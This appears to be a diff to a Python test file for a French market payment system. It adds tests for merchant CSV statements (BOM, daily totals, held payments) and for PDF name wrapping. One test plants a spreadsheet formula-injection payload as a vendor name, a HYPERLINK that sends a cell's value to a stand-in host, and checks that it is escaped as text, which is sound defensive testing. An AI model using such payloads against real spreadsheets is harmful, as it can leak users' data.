@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import re
 from pathlib import Path
 
@@ -69,3 +70,71 @@ def test_a_vendor_name_prints_in_french_letters_and_unknown_letters_as_question_
     result = _settle(engine, rules)
     [page] = _pdf_text(Path(result.output_dir or "") / f"releve-commercant-{market.vendor_ids[0]}.pdf")
     assert "Commerçant : Bœuf & Cie à ?ód?" in page
+
+
+def _rows(path: Path) -> list[list[str]]:
+    raw = path.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte order mark: Excel shows the accents
+    return list(csv.reader(raw.decode("utf-8-sig").splitlines(), delimiter=";"))
+
+
+def test_the_csv_statement_opens_in_excel_runs_no_formula_and_totals_each_day_and_lists_held_records(
+    session: Session, engine: Engine, rules: Settings
+) -> None:
+    from sqlalchemy import select, update
+
+    from caisse import review
+    from caisse.models import TransactionRecord, Vendor
+
+    market = Market(session, rules, vendors=1)
+    hostile = '=HYPERLINK("http://x.test/?"&A1;"cliquez")'
+    session.execute(update(Vendor).where(Vendor.id == market.vendor_ids[0]).values(name=hostile))  # type: ignore[arg-type]
+    session.commit()
+    market.pay(0, 5, time=T0 - 86_400)
+    market.pay(0, 1_250)
+    market.upload(0, [market.chains[0].void(2)])
+    market.pay(0, 700)
+    held_id = session.execute(select(TransactionRecord.id).where(TransactionRecord.seq == 4)).scalar_one()
+    assert review.hold(session, record_ids=[held_id], reason="+carte signalée @terrain") == 1
+    session.commit()
+    result = _settle(engine, rules)
+    rows = _rows(Path(result.output_dir or "") / f"releve-commercant-{market.vendor_ids[0]}.csv")
+    assert rows[0][1] == "'" + hostile  # shown as text, never run
+    terminal = str(market.chains[0].terminal_id)
+    assert rows[2:8] == [
+        ["31/12/2025", "09:00:00", terminal, "1", "paiement", "0,05"],
+        ["total du 31/12/2025", "", "", "1", "", "0,05"],
+        ["01/01/2026", "09:02:00", terminal, "2", "paiement", "12,50"],
+        ["01/01/2026", "09:03:00", terminal, "3", "annulation", "-12,50"],  # an amount keeps its sign
+        ["total du 01/01/2026", "", "", "2", "", "0,00"],
+        ["total", "", "", "3", "", "0,05"],
+    ]
+    held = rows[rows.index(["Paiements retenus pour vérification (non payés par ce règlement)"]) + 2:]
+    assert held == [["01/01/2026", "09:04:00", terminal, "4", "paiement", "7,00", "'+carte signalée @terrain"]]
+    summary = _rows(Path(result.output_dir or "") / "resume.csv")
+    assert any(row[:2] == [str(market.vendor_ids[0]), "'" + hostile] for row in summary)
+    pages = _pdf_text(Path(result.output_dir or "") / f"releve-commercant-{market.vendor_ids[0]}.pdf")
+    text = re.sub(r"\s+", " ", " ".join(pages))
+    assert "Total du 01/01/2026 2 opérations 0,00" in text and "Paiements retenus pour vérification" in text
+    assert "+carte signalée @terrain" in text
+
+
+def test_a_long_vendor_name_wraps_inside_the_pdf_page(session: Session, engine: Engine, rules: Settings) -> None:
+    from fpdf import FPDF
+    from sqlalchemy import update
+
+    from caisse.models import Vendor
+
+    market = Market(session, rules, vendors=1)
+    name = "Coopérative maraîchère et fromagère des producteurs associés du Grand Montpellier " + "X" * 110  # 192 of 200
+    session.execute(update(Vendor).where(Vendor.id == market.vendor_ids[0]).values(name=name.strip()))  # type: ignore[arg-type]
+    session.commit()
+    market.pay(0, 990)
+    result = _settle(engine, rules)
+    [page] = _pdf_text(Path(result.output_dir or "") / f"releve-commercant-{market.vendor_ids[0]}.pdf")
+    measure = FPDF()
+    measure.set_font("Helvetica", size=10)
+    header = [line for line in page.splitlines() if "Coopérative" in line or "XXXX" in line or "Montpellier" in line]
+    assert len(header) >= 3  # on several lines ...
+    assert all(measure.get_string_width(line) <= 180 for line in header)  # ... each within the 180 mm of text
+    assert "".join(line.replace(" ", "") for line in header).startswith("Commerçant:" + name.strip().replace(" ", ""))
